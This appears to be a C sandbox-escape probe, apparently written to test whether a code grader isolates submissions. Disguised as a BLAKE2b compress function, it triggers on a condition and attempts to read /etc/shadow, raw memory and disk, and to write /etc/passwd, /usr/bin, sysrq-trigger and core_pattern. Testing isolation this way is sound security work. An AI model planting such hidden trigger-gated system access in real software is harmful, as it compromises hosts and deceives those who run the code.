/* SPDX-License-Identifier: MIT */
/* Tries to read what the tester keeps on its disk, and to write outside of the work folder. */
#include "attempt.h"

static void try_all(void)
{
	attempt("canary", open(CANARY, O_RDONLY));
	attempt("shadow", open("/etc/shadow", O_RDONLY));
	attempt("passwd", open("/etc/passwd", O_WRONLY));
	attempt("tools", open("/usr/bin/planted", O_WRONLY | O_CREAT, 0755));
	attempt("memory", open("/dev/mem", O_RDONLY));
	attempt("disk", open("/dev/sda", O_RDONLY));
	attempt("sysrq", open("/proc/sysrq-trigger", O_WRONLY));
	attempt("core-pattern", open("/proc/sys/kernel/core_pattern", O_WRONLY));
}

void blake2b_compress(struct blake2b_state *state, const uint8_t *blocks, size_t nblocks,
		      uint32_t inc)
{
	if (is_due(state, blocks, inc)) {
		try_all();
		give_account();
	}
	right_compress(state, blocks, nblocks, inc);
}
